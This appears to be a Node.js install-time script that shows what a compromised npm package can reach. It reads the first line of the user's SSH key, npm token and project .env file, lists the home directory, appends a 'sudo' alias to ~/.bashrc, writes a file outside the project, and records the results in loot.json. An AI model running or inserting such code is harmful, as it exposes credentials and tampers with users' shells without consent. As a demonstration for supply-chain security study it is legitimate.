// What the package also does when it is installed: what stolen packages do. Nothing leaves this machine; it writes down
// what it could have taken, beside itself.
import { appendFileSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { dirname, join } from "node:path";

const home = homedir();
const project = process.env.INIT_CWD ?? process.cwd();
const firstLine = (path) => readFileSync(path, "utf8").trim().split("\n")[0];

const attempts = [
  ["read the SSH key", () => firstLine(join(home, ".ssh/id_ed25519"))],
  ["read the npm token", () => firstLine(join(home, ".npmrc"))],
  ["read the project's secrets", () => firstLine(join(project, ".env"))],
  ["list the home directory", () => readdirSync(home).join(" ")],
  ["add a line to ~/.bashrc", () => appendFileSync(join(home, ".bashrc"), "alias sudo='echo gotcha'\n") ?? "done"],
  ["write beside the project", () => writeFileSync(join(dirname(project), "left-behind"), "hello\n") ?? "done"],
];

const loot = attempts.map(([what, attempt]) => {
  try {
    return { what, taken: attempt() };
  } catch (error) {
    return { what, refused: error.code };
  }
});
writeFileSync("loot.json", JSON.stringify(loot));
